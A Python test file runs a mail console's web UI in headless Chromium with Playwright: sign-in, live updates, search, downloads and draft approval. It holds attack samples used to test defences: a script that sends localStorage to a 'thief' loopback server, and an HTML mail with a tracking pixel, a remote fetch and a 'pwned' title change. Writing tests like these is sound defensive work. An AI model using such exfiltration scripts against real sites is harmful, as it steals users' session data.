"""The console in a real browser: Debian's headless Chromium driven by Playwright, against a real
daemon process (ephemeral loopback ports, real SMTP). Sign in through the one-time link, watch mail
arrive without a reload, open an HTML mail whose script and remote content must not run or load
(a loopback server we run counts every request), search, download the source, approve a draft
(also one that changed under the person) and discard one; and the draft review MCP App inside a
minimal host page, acting through a real MCP server.

One browser for the module (Playwright's `launch` gives it a fresh temporary profile), one fresh
browser context per test. Screenshots of the main views go to $MAM_CONSOLE_SCREENSHOTS, or a temp
dir. Skipped, with the reason shown, only when Playwright or a Chromium binary cannot be found.
"""

from __future__ import annotations

import asyncio
import json
import os
import re
import shutil
import tempfile
from collections.abc import AsyncIterator
from email.message import EmailMessage
from email.utils import make_msgid
from pathlib import Path
from typing import Any, Self

import aiosmtplib
import anyio
import httpx2
import pytest
import pytest_asyncio

from tests.local.daemon_process import RunningDaemon, daemon_config, daemon_process

playwright_api = pytest.importorskip(
    "playwright.async_api", reason="Playwright for Python is not installed: pip install -e '.[test]'"
)


def find_chromium() -> str | None:
    for candidate in (
        os.environ.get("MAM_TEST_CHROMIUM"),
        "/usr/bin/chromium",
        shutil.which("chromium"),
        shutil.which("chromium-browser"),
        shutil.which("google-chrome"),
    ):
        if candidate and os.path.isfile(candidate) and os.access(candidate, os.X_OK):
            return candidate
    return None


CHROMIUM = find_chromium()
if CHROMIUM is None:
    pytest.skip(
        "no Chromium binary found (apt-get install chromium, or set MAM_TEST_CHROMIUM); .ci/run installs it",
        allow_module_level=True,
    )

pytestmark = pytest.mark.asyncio(loop_scope="module")

BROWSER_FLAGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
WAIT_MS = 20_000  # every wait for the page is bounded by this (generous: the machine is shared)


class LoopbackServer:
    """An HTTP server on a loopback address and a free port, for the time of an `async with`."""

    host = "127.0.0.1"

    def __init__(self) -> None:
        self.port = 0
        self._server: asyncio.Server | None = None

    async def __aenter__(self) -> Self:
        self._server = await asyncio.start_server(self._serve, self.host, 0)
        self.port = self._server.sockets[0].getsockname()[1]
        return self

    async def __aexit__(self, *exc: object) -> None:
        assert self._server is not None
        self._server.close()
        await self._server.wait_closed()

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        raise NotImplementedError


class RequestWatch(LoopbackServer):
    """A loopback HTTP server that must receive nothing from a mail, except what the person allows."""

    def __init__(self) -> None:
        super().__init__()
        self.paths: list[str] = []
        self.arrived = asyncio.Event()

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            with anyio.fail_after(5):
                line = await reader.readline()
                while (await reader.readline()).strip():
                    pass  # headers
            self.paths.append(line.decode("latin-1").split(" ")[1] if line.count(b" ") >= 2 else "?")
            self.arrived.set()
            gif = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"
            writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: image/gif\r\nContent-Length: %d\r\nConnection: close\r\n\r\n" % len(gif) + gif)
            await writer.drain()
        except (TimeoutError, OSError, IndexError):
            pass
        finally:
            writer.close()

    def url(self, path: str) -> str:
        return f"http://127.0.0.1:{self.port}{path}"


@pytest.fixture(scope="module")
def shots(tmp_path_factory: pytest.TempPathFactory) -> Path:
    wanted = os.environ.get("MAM_CONSOLE_SCREENSHOTS")
    folder = Path(wanted) if wanted else Path(tempfile.mkdtemp(prefix="mam-console-shots-"))
    folder.mkdir(parents=True, exist_ok=True)
    return folder


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def daemon(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[RunningDaemon]:
    config = daemon_config(tmp_path_factory.mktemp("console") / "data")
    async with daemon_process(config) as running:
        yield running


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def browser() -> AsyncIterator[Any]:
    async with playwright_api.async_playwright() as driver:
        launched = await driver.chromium.launch(executable_path=CHROMIUM, args=BROWSER_FLAGS, headless=True)
        try:
            yield launched
        finally:
            await launched.close()


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def inbox(daemon: RunningDaemon) -> dict[str, Any]:
    async with daemon.client() as api:
        created = await api.post("/v1/inboxes", json={"username": "scout", "displayName": "Scout agent"})
        assert created.status_code == 201, created.text
        inbox: dict[str, Any] = created.json()
    # A correspondent, so drafts to jane are not to someone new.
    await send_mail(daemon, inbox, "Quarterly numbers", "Hi, the quarterly numbers are attached.\nJane")
    return inbox


@pytest_asyncio.fixture(loop_scope="module")
async def page(browser: Any, daemon: RunningDaemon) -> AsyncIterator[Any]:
    context = await browser.new_context(viewport={"width": 1280, "height": 860}, accept_downloads=True)
    tab = await context.new_page()
    tab.set_default_timeout(WAIT_MS)
    try:
        yield tab
    finally:
        await context.close()


async def send_mail(
    daemon: RunningDaemon, inbox: dict[str, Any], subject: str, text: str, html: str | None = None
) -> str:
    message = EmailMessage()
    message["From"] = "Jane Doe <jane@example.com>"
    message["To"] = inbox["email"]
    message["Subject"] = subject
    message["Message-ID"] = make_msgid(domain="example.com")
    message.set_content(text)
    if html is not None:
        message.add_alternative(html, subtype="html")
    await aiosmtplib.send(
        message, sender="jane@example.com", recipients=[inbox["email"]], hostname="127.0.0.1", port=daemon.smtp_port
    )
    return str(message["Message-ID"])


async def sign_in(page: Any, daemon: RunningDaemon) -> None:
    async with httpx2.AsyncClient(base_url=daemon.base_url) as http:
        link = await http.post("/console/api/login-token", headers={"X-API-Key": daemon.api_key})
    await page.goto(daemon.base_url + link.json()["path"])
    await page.wait_for_selector("#inboxes a")


async def find_message(daemon: RunningDaemon, inbox: dict[str, Any], subject: str) -> dict[str, Any]:
    async with daemon.client() as api:
        messages = (await api.get(f"/v1/inboxes/{inbox['id']}/messages", params={"subject": subject})).json()
    return dict(messages["messages"][0])


async def test_sign_in_then_new_mail_shows_up_without_a_reload(
    page: Any, daemon: RunningDaemon, inbox: dict[str, Any], shots: Path
) -> None:
    await sign_in(page, daemon)
    assert page.url.startswith(f"{daemon.base_url}/console/#/i/")  # the one-time token left the address bar
    assert "token" not in page.url
    cookies = await page.context.cookies()
    session = [c for c in cookies if c["name"].startswith("mam_console_")]
    assert session and session[0]["httpOnly"] is True and session[0]["sameSite"] == "Strict"
    assert await page.evaluate("document.cookie") == ""  # page scripts cannot read the session
    content = await page.content()
    assert daemon.api_key not in content and "tk_" not in content

    await page.locator("#live.on").wait_for()  # the event stream is connected
    await page.evaluate("window.__sameDocument = 'still here'")
    await send_mail(daemon, inbox, "Arrived while watching", "Your code is 111222.")
    await page.locator("#items a", has_text="Arrived while watching").wait_for()
    assert await page.evaluate("window.__sameDocument") == "still here"  # no reload happened
    await page.get_by_text("New mail arrived.").wait_for()
    await page.locator("#items a", has_text="Arrived while watching").click()
    await page.locator("#detail h2", has_text="Arrived while watching").wait_for()
    await page.locator(".extracted .code", has_text="111222").wait_for()
    await page.screenshot(path=str(shots / "console-messages.png"))


async def test_a_second_sign_in_in_another_tab_keeps_both_tabs_working_and_no_url_holds_the_key(
    browser: Any, daemon: RunningDaemon, inbox: dict[str, Any]
) -> None:
    """Running `mam-mcp console` again opens a new session in a new tab while the first is open:
    both share the cookie and the stored key, so the first tab goes on with the new ones instead of
    signing the person out (and taking the new key with it). The key never appears in a URL (URLs
    land in the browser's history)."""
    context = await browser.new_context()
    urls: list[str] = []
    try:
        first, second = await context.new_page(), await context.new_page()
        for tab in (first, second):
            tab.set_default_timeout(WAIT_MS)
            tab.on("framenavigated", lambda frame: urls.append(frame.url))
        await sign_in(first, daemon)
        await first.locator("#live.on").wait_for()
        old_key = await first.evaluate("() => Object.values(localStorage)[0]")
        await sign_in(second, daemon)
        new_key = await second.evaluate("() => Object.values(localStorage)[0]")
        assert new_key and new_key != old_key
        await send_mail(daemon, inbox, "Seen in both tabs", "A refresh in each.")
        for tab in (first, second):
            await tab.locator("#items a", has_text="Seen in both tabs").first.wait_for()
        await first.locator("#views a", has_text="Threads").click()  # a new request from the first tab
        await first.locator("#list-title", has_text="Threads").wait_for()
        assert await first.locator(".signed-out").count() == 0
        await second.reload()
        await second.locator("#items a", has_text="Seen in both tabs").first.wait_for()
        assert await second.evaluate("() => Object.values(localStorage)[0]") == new_key
    finally:
        await context.close()
    assert urls and not [url for url in urls if old_key in url or new_key in url], urls


async def test_a_refresh_that_finds_nothing_new_leaves_the_rows_in_place(
    page: Any, daemon: RunningDaemon, inbox: dict[str, Any]
) -> None:
    """The live stream connecting makes the console refresh its list. A row rebuilt at that moment
    could swallow a click half done (mouse down on the old row, up on its replacement): a refresh
    that brings nothing new must leave the rows as they are; one that does rebuilds them."""
    await send_mail(daemon, inbox, "Row stays put", "Nothing changes after this.")
    release = asyncio.Event()

    async def hold_the_stream(route: Any) -> None:  # the stream connects when the test says so
        await release.wait()
        await route.continue_()

    await page.route(lambda url: "/console/api/events" in url, hold_the_stream)  # its query holds the key
    await sign_in(page, daemon)
    row = page.locator("#items a", has_text="Row stays put")
    await row.wait_for()
    # The inbox link and the view links are refreshed too, and kept the same way.
    inbox_link = page.locator("#inboxes a").first
    view_link = page.locator("#views a", has_text="Threads")
    for link in (row, inbox_link, view_link):
        await link.evaluate("a => { a.dataset.marker = 'kept'; }")

    def list_request(response: Any) -> bool:
        return "/messages?limit=50" in response.url

    def inboxes_request(response: Any) -> bool:
        return response.url.endswith("/api/inboxes")

    assert await page.evaluate("document.body.dataset.refreshes") is None  # none yet: the stream is held
    async with page.expect_response(list_request), page.expect_response(inboxes_request):
        release.set()  # `hello` -> refresh: the same list comes back
    await page.locator("#live.on").wait_for()
    await page.wait_for_function("() => Number(document.body.dataset.refreshes) >= 1")  # handled: kept or rebuilt
    for link in (row, inbox_link, view_link):
        assert await link.evaluate("a => a.dataset.marker") == "kept"

    async with page.expect_response(list_request):
        await send_mail(daemon, inbox, "Something new", "A row to add.")
    await page.locator("#items a", has_text="Something new").wait_for()  # rebuilt with the new mail
    assert await page.locator("#items a", has_text="Row stays put").evaluate("a => a.dataset.marker") is None
    await page.wait_for_function("() => !document.querySelector('#inboxes a').dataset.marker")  # new counts
    assert await view_link.evaluate("a => a.dataset.marker") == "kept"  # the views did not change


class OtherUsersServer(LoopbackServer):
    """An HTTP server another local user runs on a loopback address: it serves one page and keeps
    every request line and Cookie header a browser sends it."""

    def __init__(self, host: str, page: str) -> None:
        super().__init__()
        self.host, self.page = host, page
        self.requests: list[str] = []
        self.cookies: list[str] = []
        self.heard_back = asyncio.Event()  # a request other than the page itself came

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            with anyio.fail_after(5):
                line = (await reader.readline()).decode("latin-1").strip()
                while header := (await reader.readline()).strip():
                    name, _, value = header.decode("latin-1").partition(":")
                    if name.lower() == "cookie":
                        self.cookies.append(value.strip())
            self.requests.append(line)
            if not line.startswith("GET / "):
                self.heard_back.set()
            body = self.page.encode()
            writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: %d\r\n"
                         b"Connection: close\r\n\r\n" % len(body) + body)  # fmt: skip
            await writer.drain()
        except (TimeoutError, OSError):
            pass
        finally:
            writer.close()


async def test_a_server_on_another_loopback_port_gets_the_cookie_but_cannot_use_the_console(
    browser: Any, daemon: RunningDaemon, inbox: dict[str, Any]
) -> None:
    """Browsers send a cookie to every port of its host (SameSite compares sites, not ports). A page
    another local user serves on 127.0.0.1 therefore receives the console's session cookie; it must
    get nothing with it: no mail, no sending. The page key the console needs lives in the storage of
    the console's own origin, which a page on another port cannot read."""
    draft = await create_draft(daemon, inbox, "Held for the person", "Only the person may send this.")
    steal = ("<script>fetch('/console/x?storage=' + encodeURIComponent(JSON.stringify(localStorage)),"
             " {credentials: 'include'})</script>")  # fmt: skip
    context = await browser.new_context()
    try:
        tab = await context.new_page()
        tab.set_default_timeout(WAIT_MS)
        await sign_in(tab, daemon)  # the person, through the real one-time link
        page_key = await tab.evaluate("() => Object.values(localStorage)[0]")
        assert page_key and "#key=" not in tab.url  # kept by the page, gone from the address bar
        async with OtherUsersServer("127.0.0.1", steal) as thief:
            hop = f"<script>location = 'http://127.0.0.1:{thief.port}/'</script>"
            async with OtherUsersServer("127.0.0.2", hop) as elsewhere:  # any page on another site
                await tab.goto(f"http://127.0.0.2:{elsewhere.port}/")
                with anyio.fail_after(WAIT_MS / 1000):
                    await thief.heard_back.wait()
    finally:
        await context.close()
    cookie = next(
        (part.strip() for sent in thief.cookies for part in sent.split(";") if part.strip().startswith("mam_console_")),
        "",
    )
    assert cookie, thief.cookies  # what browsers do: the cookie went to the other port
    assert page_key not in " ".join(thief.requests)  # ... but the page key did not
    async with httpx2.AsyncClient(
        base_url=daemon.base_url, headers={"Cookie": cookie, "Origin": daemon.base_url}
    ) as other_user:
        shell = await other_user.get("/console/")
        assert shell.status_code == 200 and page_key not in shell.text
        assert (await other_user.get("/console/api/inboxes")).status_code == 401
        shown = await other_user.get(f"/console/api/inboxes/{inbox['id']}/drafts/{draft}")
        assert shown.status_code == 401
        approve = await other_user.post(
            f"/console/api/inboxes/{inbox['id']}/drafts/{draft}/approve", json={"contentHash": "x" * 64}
        )
        assert approve.status_code == 401
    async with daemon.client() as api:
        still = await api.get(f"/v1/inboxes/{inbox['id']}/drafts/{draft}")
        assert still.status_code == 200  # nothing was sent


async def test_an_html_mail_runs_no_script_and_loads_nothing_until_asked(
    page: Any, daemon: RunningDaemon, inbox: dict[str, Any], shots: Path
) -> None:
    async with RequestWatch() as watch:
        html = (
            f'<html><head><meta http-equiv="refresh" content="1;url={watch.url("/refresh")}">'
            f'<link rel="stylesheet" href="{watch.url("/style.css")}"></head><body>'
            "<h1>Welcome aboard</h1><p>Your code is <b>483921</b>.</p>"
            f'<img id="pixel" src="{watch.url("/pixel.gif")}" alt="tracking pixel">'
            f"<script>document.body.setAttribute('data-ran', 'yes'); fetch('{watch.url('/script')}');"
            " parent.document.title = 'pwned';</script>"
            f'<form action="{watch.url("/form")}" method="get"><button id="go" type="submit">Go</button></form>'
            '<p><a href="https://app.example.com/verify?token=7f3a9c2e">Verify email</a></p></body></html>'
        )
        await send_mail(daemon, inbox, "Welcome with pixel", "Your code is 483921.", html=html)
        message = await find_message(daemon, inbox, "Welcome with pixel")
        await sign_in(page, daemon)
        await page.goto(f"{daemon.base_url}/console/#/i/{inbox['id']}/messages/{message['id']}")
        frame_element = await page.wait_for_selector("iframe.mail-frame")
        frame = await frame_element.content_frame()
        assert frame is not None
        await frame.wait_for_url("**/html?ticket=*")  # a one-use ticket, asked for with the page key
        await frame.wait_for_load_state("load")
        assert "483921" in await frame.inner_text("body")
        assert await frame.evaluate("document.body.getAttribute('data-ran')") is None  # the script never ran
        assert await page.title() == "mam-mcp console"
        assert await frame_element.get_attribute("sandbox") == "allow-popups allow-popups-to-escape-sandbox"
        await frame.click("#go")  # a form in the mail: submitting it must not reach anyone
        assert watch.paths == []  # no image, stylesheet, script request, refresh or form so far
        await page.screenshot(path=str(shots / "console-html-mail.png"))

        await page.get_by_role("button", name="Load remote images").click()  # the person asks for images
        with anyio.fail_after(10):
            await watch.arrived.wait()
        assert watch.paths == ["/pixel.gif"]  # only the image came, and only once asked for
        shown = await (await page.wait_for_selector("iframe.mail-frame")).content_frame()  # a new frame
        assert shown is not None
        await shown.wait_for_url("**/html?ticket=*&images=1")
        assert "483921" in await shown.inner_text("body")


async def test_search_finds_the_mail_and_the_source_downloads(
    page: Any, daemon: RunningDaemon, inbox: dict[str, Any]
) -> None:
    await send_mail(daemon, inbox, "Invoice for zephyrine", "The zephyrine invoice is due.")
    await send_mail(daemon, inbox, "Lunch plans", "Shall we meet at noon?")
    message = await find_message(daemon, inbox, "Invoice for zephyrine")
    await sign_in(page, daemon)
    await page.get_by_label("Search the selected inbox").fill("zephyrine")
    await page.keyboard.press("Enter")
    results = page.locator("#items a")
    await page.locator("#list-title", has_text="Search: zephyrine").wait_for()
    await results.first.wait_for()
    assert await results.count() == 1
    await results.first.click()
    await page.locator("#detail h2", has_text="Invoice for zephyrine").wait_for()
    async with page.expect_download() as download_info:
        await page.get_by_role("button", name="Download .eml").click()
    download = await download_info.value
    assert download.suggested_filename == f"{message['id']}.eml"
    saved = Path(await download.path()).read_bytes()
    async with daemon.client() as api:
        raw = (await api.get(f"/v1/inboxes/{inbox['id']}/messages/{message['id']}/raw")).content
    assert saved == raw and b"Subject: Invoice for zephyrine" in saved


async def test_what_someone_types_in_the_search_box_survives_new_mail(
    page: Any, daemon: RunningDaemon, inbox: dict[str, Any]
) -> None:
    """A refresh (new mail, the live stream connecting) used to re-render the views and empty the
    search box: a search typed at that moment went nowhere (CI saw the search test fail this way)."""
    await send_mail(daemon, inbox, "Invoice for zephyrine", "The zephyrine invoice is due.")
    await sign_in(page, daemon)
    await page.locator("#live.on").wait_for()
    box = page.get_by_label("Search the selected inbox")
    await box.fill("zephyr")
    counts_before = await page.locator("#inboxes a .counts").first.text_content()
    await send_mail(daemon, inbox, "Arrived while typing", "Hello.")
    # The refresh that new mail brings has run: the inbox list and the message list show it.
    await page.wait_for_function(
        "before => document.querySelector('#inboxes a .counts').textContent !== before", arg=counts_before
    )
    await page.locator("#items a", has_text="Arrived while typing").wait_for()
    assert await box.input_value() == "zephyr"
    await box.press("End")
    await page.keyboard.type("ine")
    await page.keyboard.press("Enter")
    await page.locator("#list-title", has_text="Search: zephyrine").wait_for()
    assert await box.input_value() == "zephyrine"  # the search looked at is shown in the box
    await box.fill("half typed")
    await page.locator("#items a", has_text="Invoice for zephyrine").first.click()  # opening a result
    await page.locator("#detail h2", has_text="Invoice for zephyrine").wait_for()
    assert await box.input_value() == "half typed"  # keeps what is being typed
    await page.locator("#views a", has_text="Messages").click()
    await page.locator("#list-title", has_text="Messages, newest first").wait_for()
    assert await box.input_value() == ""  # leaving the search empties it
    await page.go_back()  # and coming back to it shows it again
    await page.locator("#list-title", has_text="Search: zephyrine").wait_for()
    assert await box.input_value() == "zephyrine"


async def create_draft(daemon: RunningDaemon, inbox: dict[str, Any], subject: str, body: str) -> str:
    async with daemon.client() as api:
        created = await api.post(
            f"/v1/inboxes/{inbox['id']}/drafts",
            json={"to": ["jane@example.com"], "subject": subject, "plainBody": body},
        )
        assert created.status_code == 201, created.text
        return str(created.json()["id"])


async def test_approve_a_draft_even_one_that_changed_and_see_it_in_outbound(
    page: Any, daemon: RunningDaemon, inbox: dict[str, Any], shots: Path
) -> None:
    draft_id = await create_draft(daemon, inbox, "Re: Quarterly numbers", "Thanks Jane, the offer is 100 EUR.")
    await sign_in(page, daemon)
    await page.locator("#views a", has_text="Drafts").click()
    await page.locator(f'#items a[data-id="{draft_id}"]').click()
    review = page.locator(".draft-review")
    await review.locator(".dr-text", has_text="the offer is 100 EUR").wait_for()
    await page.screenshot(path=str(shots / "console-draft-review.png"))

    await page.get_by_role("button", name="Approve and send").click()
    async with daemon.client() as api:  # the agent rewrites it while the person is asked to confirm
        changed = await api.patch(
            f"/v1/inboxes/{inbox['id']}/drafts/{draft_id}", json={"plainBody": "Thanks Jane, the offer is 1,000 EUR."}
        )
        assert changed.status_code == 200
    await page.get_by_role("button", name="Yes, send it").click()
    await page.get_by_role("alert").filter(has_text="changed since you opened it").wait_for()
    await review.locator(".dr-text", has_text="the offer is 1,000 EUR").wait_for()  # the new version is shown
    async with daemon.client() as api:
        outbound = (await api.get(f"/v1/inboxes/{inbox['id']}/messages", params={"direction": "outbound"})).json()
    assert outbound["messages"] == []  # nothing was sent

    await page.get_by_role("button", name="Approve and send").click()
    await page.get_by_role("button", name="Yes, send it").click()
    await page.get_by_text("Approved: sent as message").wait_for()
    await page.locator("#views a", has_text="Outbound").click()
    # The drafts list stays on screen until the outbound one has loaded: wait for the sent message's
    # own row, which says it was captured (no relay here: kept locally, and the page says so).
    sent = page.locator("#items a", has_text="Re: Quarterly numbers").filter(has_text="captured")
    await sent.wait_for()
    assert "changed" not in await sent.inner_text()  # not the draft's row
    async with daemon.client() as api:
        outbound = (await api.get(f"/v1/inboxes/{inbox['id']}/messages", params={"direction": "outbound"})).json()
        assert [m["plainBody"] for m in outbound["messages"]] == ["Thanks Jane, the offer is 1,000 EUR."]
        assert (await api.get(f"/v1/inboxes/{inbox['id']}/drafts/{draft_id}")).status_code == 404
    await sent.click()
    await page.get_by_text("captured locally").wait_for()
    await page.screenshot(path=str(shots / "console-outbound.png"))


async def test_discard_a_draft(page: Any, daemon: RunningDaemon, inbox: dict[str, Any]) -> None:
    draft_id = await create_draft(daemon, inbox, "Something to drop", "Never send this.")
    await sign_in(page, daemon)
    await page.goto(f"{daemon.base_url}/console/#/i/{inbox['id']}/drafts/{draft_id}")
    await page.locator(".dr-text", has_text="Never send this.").wait_for()
    await page.get_by_role("button", name="Discard").click()
    await page.get_by_role("button", name="Yes, discard it").click()
    await page.get_by_text("Discarded: nothing was sent.").wait_for()
    async with daemon.client() as api:
        assert (await api.get(f"/v1/inboxes/{inbox['id']}/drafts/{draft_id}")).status_code == 404
        outbound = (await api.get(f"/v1/inboxes/{inbox['id']}/messages", params={"direction": "outbound"})).json()
    assert all(m["subject"] != "Something to drop" for m in outbound["messages"])
    await page.locator(f'#items a[data-id="{draft_id}"]').wait_for(state="detached")


HOST_PAGE = """<!DOCTYPE html><html><body><iframe id="view" sandbox="allow-scripts" title="review"
style="width:900px;height:760px;border:0"></iframe><script>
const frame = document.getElementById('view');
window.modelContext = null;
function post(message) { frame.contentWindow.postMessage(message, '*'); }
function reply(id, result) { post({jsonrpc: '2.0', id: id, result: result}); }
window.addEventListener('message', async (event) => {
  if (event.source !== frame.contentWindow) return;
  const m = event.data;
  if (m.method === 'ui/initialize') {
    reply(m.id, {protocolVersion: '2026-01-26', hostInfo: {name: 'test-host', version: '1'},
                 hostCapabilities: {serverTools: {}}, hostContext: {displayMode: 'inline'}});
  } else if (m.method === 'ui/notifications/initialized') {
    post({jsonrpc: '2.0', method: 'ui/notifications/tool-input', params: {arguments: window.toolInput}});
    post({jsonrpc: '2.0', method: 'ui/notifications/tool-result', params: window.toolResult});
  } else if (m.method === 'tools/call') {
    reply(m.id, await window.hostCallTool(m.params.name, m.params.arguments));
  } else if (m.method === 'ui/update-model-context') {
    window.modelContext = m.params; reply(m.id, {});
  } else if (m.id !== undefined) {
    reply(m.id, {});
  }
});
</script></body></html>"""


async def test_the_review_app_in_a_host_approves_through_the_app_only_tool(
    page: Any, daemon: RunningDaemon, inbox: dict[str, Any], tmp_path: Path, shots: Path
) -> None:
    from mcp import Client
    from mcp.client.extension import advertise
    from mcp.server.apps import APP_MIME_TYPE, EXTENSION_ID

    from mam_mcp.client import MamClient
    from mam_mcp.server import build_server
    from mam_mcp.tools.draft_review import RESOURCE_URI
    from tests.conftest import make_settings

    async def factory(settings: Any) -> MamClient:
        return MamClient(base_url=daemon.base_url, api_key=daemon.api_key)

    server = build_server(make_settings(tmp_path, hosted=False, env={"MAM_MCP_MODE": "local"}), client_factory=factory)
    apps = advertise(EXTENSION_ID, {"mimeTypes": [APP_MIME_TYPE]})
    calls: list[str] = []
    async with Client(server, extensions=[apps]) as client:
        arguments = {"inbox_id": inbox["id"], "to": ["jane@example.com"], "subject": "From the agent", "body": "Draft body for the app."}
        created = await client.call_tool("create_draft", arguments)
        view = (await client.read_resource(RESOURCE_URI)).contents[0].text

        async def host_call_tool(name: str, args: dict[str, Any]) -> dict[str, Any]:
            calls.append(name)
            result = await client.call_tool(name, args)
            return dict(result.model_dump(by_alias=True, mode="json", exclude_none=True))

        await page.expose_function("hostCallTool", host_call_tool)
        await page.set_content(HOST_PAGE)
        await page.evaluate(
            "([input, result]) => { window.toolInput = input; window.toolResult = result; }",
            [arguments, created.model_dump(by_alias=True, mode="json", exclude_none=True)],
        )
        await page.evaluate("html => { document.getElementById('view').srcdoc = html; }", view)
        app = page.frame_locator("#view")
        await app.locator(".dr-text", has_text="Draft body for the app.").wait_for()
        await page.screenshot(path=str(shots / "review-app.png"))
        await app.get_by_role("button", name="Approve and send").click()
        await app.get_by_role("button", name="Yes, send it").click()
        await app.get_by_text("Approved: sent as message").wait_for()
        context = await page.evaluate("window.modelContext")
    await server.runtime.aclose()  # type: ignore[attr-defined]

    assert calls[0] == "review_draft" and "approve_draft" in calls
    assert "approved draft" in json.dumps(context)
    draft_id = created.structured_content["id"]
    async with daemon.client() as api:
        assert (await api.get(f"/v1/inboxes/{inbox['id']}/drafts/{draft_id}")).status_code == 404
        outbound = (await api.get(f"/v1/inboxes/{inbox['id']}/messages", params={"direction": "outbound"})).json()
    assert any(m["plainBody"] == "Draft body for the app." for m in outbound["messages"])
    assert re.match(r"^[0-9a-f-]{36}$", draft_id)
